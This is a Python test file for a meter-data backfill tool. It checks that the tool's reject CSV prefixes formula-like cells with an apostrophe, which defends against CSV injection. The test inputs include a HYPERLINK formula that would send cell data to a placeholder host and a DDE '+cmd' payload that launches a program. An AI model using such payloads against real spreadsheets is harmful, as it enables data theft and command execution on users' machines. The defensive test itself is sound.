"""Backfill's reject file (``FILE.rejected.csv``) is opened by operators in a spreadsheet: text
from the imported file that a spreadsheet would run as a formula is written with a leading
``'`` (OWASP "CSV Injection"), by the same rule as the report exports."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from ingest.backfill import Tally, batches, read_rows, write_rejects


def _rejects_of(tmp_path: Path, text: str) -> list[list[str]]:
    tally = Tally()
    list(batches(read_rows(io.StringIO(text)), tally, gateway_id="g"))
    path = tmp_path / "history.rejected.csv"
    write_rejects(path, tally.bad)
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_cells_a_spreadsheet_would_run_get_a_leading_quote(tmp_path: Path) -> None:
    text = (
        "meter_id,ts,value,unit\n"
        '=HYPERLINK("http://x.example/?"&A1),2026-01-01T00:00:00Z,not-a-number,kWh\n'
        "E-1,@SUM(1+1),1,kWh\n"
        "E-2,2026-01-01T00:00:00Z,\"+cmd|' /C calc'!A0\",kWh\n"
        'E-3,2026-01-01T00:00:00Z,"\t=1+1",-2+3\n'
        'E-4,2026-01-01T00:00:00Z,"\r=1+1",kWh\n'
    )

    header, *rows = _rejects_of(tmp_path, text)

    assert header == ["line", "reason", "meter_id", "ts", "value", "unit"]
    assert [r[2] for r in rows] == [
        '\'=HYPERLINK("http://x.example/?"&A1)',
        "E-1",
        "E-2",
        "E-3",
        "E-4",
    ]
    assert rows[1][3] == "'@SUM(1+1)"
    assert rows[2][4] == "'+cmd|' /C calc'!A0"
    assert rows[3][4] == "'\t=1+1"
    assert rows[4][4] == "'\r=1+1"
    # Every cell of every row: nothing starts the way a formula does.
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not (cell.startswith("-") and not cell[1:].replace(".", "").isdigit()), row


def test_plain_numbers_and_ordinary_text_are_written_as_they_were(tmp_path: Path) -> None:
    text = "meter_id,ts,value,unit\nE-9,yesterday,-12.5,kWh\n"

    _, row = _rejects_of(tmp_path, text)

    assert row[0] == "2"
    assert row[2:] == ["E-9", "yesterday", "-12.5", "kWh"]
